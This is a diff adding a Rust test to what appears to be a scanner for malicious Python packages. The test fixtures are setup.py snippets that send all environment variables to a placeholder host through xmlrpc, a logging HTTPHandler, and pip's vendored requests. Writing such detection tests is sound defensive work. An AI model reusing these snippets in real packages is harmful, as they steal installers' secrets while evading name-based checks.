@@ -278,3 +278,19 @@ fn code_too_large_to_inspect_is_not_clean() {
     b.entries.push(big);
     assert_not_malicious("17 MiB test data module", &b);
 }
+
+/// Item 8: environment exfiltration through clients that are not HTTP libraries by name.
+#[test]
+fn exfiltration_through_unusual_clients_is_malicious() {
+    let cases = [
+        "import os, xmlrpc.client\nxmlrpc.client.ServerProxy('https://example.invalid/rpc').log(dict(os.environ))\n",
+        "import os, logging, logging.handlers\nh = logging.handlers.HTTPHandler('example.invalid', '/c', method='POST')\nlog = logging.getLogger('x'); log.addHandler(h); log.warning(str(dict(os.environ)))\n",
+        "import os\nfrom pip._vendor import requests\nrequests.post('https://example.invalid/c', data=dict(os.environ))\n",
+    ];
+    for body in cases {
+        let setup =
+            format!("{body}from setuptools import setup\nsetup(name='demo', version='1.0')\n");
+        let a = sdist(&[("setup.py", setup.as_bytes())]);
+        assert_malicious(body, &a);
+    }
+}
